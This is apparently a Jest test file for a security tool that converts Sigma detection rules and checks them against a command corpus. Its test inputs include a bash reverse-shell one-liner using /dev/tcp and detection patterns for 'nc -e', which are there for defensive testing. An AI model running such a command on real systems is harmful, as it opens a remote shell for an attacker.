import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { createStreamingEngine } from '../engine';
import { commandEvent } from '../events';
import { loadRules } from '../schema';
import { convertSigma, importSigmaDir, writeConverted } from './index';
import { readCorpus } from '../corpus';

const SIGMA = path.resolve(__dirname, '../../../shared/corpora/sigma');
const DEV = path.resolve(__dirname, '../../../shared/corpora/commands/dev.jsonl');
const d = existsSync(SIGMA) ? describe : describe.skip;
if (!existsSync(SIGMA)) console.warn(`Sigma corpus not found at ${SIGMA}: skipping the Sigma import tests`);

describe('Sigma conversion', () => {
  it('maps modifiers, wildcards and 1 of/all of conditions to auditkit conditions', () => {
    const r = convertSigma(
      `title: T\nid: 11111111-2222-3333-4444-555555555555\nauthor: A, B\nlevel: high\ntags: [attack.execution, attack.t1059.004]\nlogsource: {product: linux, category: process_creation}\ndetection:\n  selection_img:\n    Image|endswith: '/bash'\n  selection_cli:\n    CommandLine|contains|all: [' -i ', '/dev/tcp/']\n  filter:\n    CommandLine: '*127.0.0.1*'\n  condition: all of selection_* and not filter\n`,
      'rules/x.yml',
    );
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.rule.author).toEqual(['A', 'B']);
    expect(r.rule.license).toBe('DRL-1.1');
    expect(r.rule.threat[0]?.technique?.id).toBe('T1059.004');
    const eng = createStreamingEngine([{ ...r.rule, tests: { match: [], no_match: [] } }]);
    const ev = { ...commandEvent('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'), process: { command_line: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', executable: '/usr/bin/bash' } };
    expect(eng.evaluate(ev).matched).toEqual(['sigma-11111111-2222-3333-4444-555555555555']);
    const filtered = { ...ev, process: { command_line: 'bash -i >& /dev/tcp/127.0.0.1/4444', executable: '/usr/bin/bash' } };
    expect(eng.evaluate(filtered).matched).toEqual([]);
  });

  it('reports an unsupported rule with its reason instead of dropping it', () => {
    const r = convertSigma(`title: T\nid: x1\nlogsource: {product: linux, service: auditd}\ndetection:\n  a: {type: EXECVE}\n  b: {a0: df}\n  timeframe: 5m\n  condition: a | near b\n`, 'u.yml');
    expect(r).toMatchObject({ ok: false, reason: expect.stringContaining('near') });
  });
});

d('SigmaHQ Linux corpus import', () => {
  it('converts at least 95% of the rules, reports the rest with reasons, and the output loads as auditkit rules with attribution', async () => {
    const rep = await importSigmaDir(SIGMA);
    const failed = rep.results.filter((r) => !r.ok);
    console.log(`Sigma import: ${rep.converted}/${rep.total} converted (${((100 * rep.converted) / rep.total).toFixed(1)}%); unsupported:\n` + failed.map((f) => `  ${f.path}: ${f.ok ? '' : f.reason}`).join('\n'));
    expect(rep.total).toBeGreaterThanOrEqual(175);
    expect(rep.converted / rep.total).toBeGreaterThanOrEqual(0.95);
    for (const f of failed) expect(f.ok ? '' : f.reason).not.toBe('');
    const out = mkdtempSync(path.join(os.tmpdir(), 'sigma-out-'));
    try {
      await writeConverted(rep, out);
      const rules = await loadRules([out]);
      expect(rules).toHaveLength(rep.converted);
      for (const r of rules) {
        expect(r.license).toBe('DRL-1.1');
        expect(r.author.length).toBeGreaterThan(0);
        expect(r.origin?.kind).toBe('sigma');
      }
    } finally {
      rmSync(out, { recursive: true, force: true });
    }
  });

  it('converted process rules catch the corpus command lines written for them', async () => {
    if (!existsSync(DEV)) return;
    const rep = await importSigmaDir(SIGMA);
    const byPath = new Map(rep.results.flatMap((r) => (r.ok ? [[r.path, r.rule] as const] : [])));
    const lines = readCorpus(DEV).filter((l) => l.label === 'dangerous' && (l as unknown as { source: string }).source.startsWith('SigmaHQ/sigma:'));
    let tested = 0;
    let hit = 0;
    const missed: string[] = [];
    for (const l of lines) {
      const p = (l as unknown as { source: string }).source.slice('SigmaHQ/sigma:'.length);
      const rule = byPath.get(p);
      if (!rule || !rule.origin || rule.category !== 'sigma_process_creation') continue;
      tested++;
      const eng = createStreamingEngine([rule]);
      if (eng.evaluate(commandEvent(l.command)).matched.length) hit++;
      else missed.push(`${p}: ${l.command}`);
    }
    console.log(`Sigma process rules vs their corpus lines: ${hit}/${tested}\n${missed.join('\n')}`);
    expect(tested).toBeGreaterThan(0);
    expect(hit / tested).toBeGreaterThanOrEqual(0.6);
  });
});

describe('Sigma words that name Object.prototype members', () => {
  it('are unknown levels, tactics and fields, not Object.prototype\'s functions', () => {
    const r = convertSigma(
      `title: T\nid: 11111111-2222-3333-4444-000000000001\nlevel: constructor\ntags: [attack.constructor, attack.tostring, attack.t1059.004]\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    CommandLine|contains: 'nc -e'\n  condition: sel\n`,
      'rules/proto.yml',
    );
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.rule.severity).toBe('medium');
    expect(r.rule.threat).toEqual([]);
    const f = convertSigma(`title: T\nid: 11111111-2222-3333-4444-000000000002\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    toString: x\n  condition: sel\n`, 'rules/proto2.yml');
    expect(f).toMatchObject({ ok: false, reason: expect.stringContaining('toString') });
  });
});
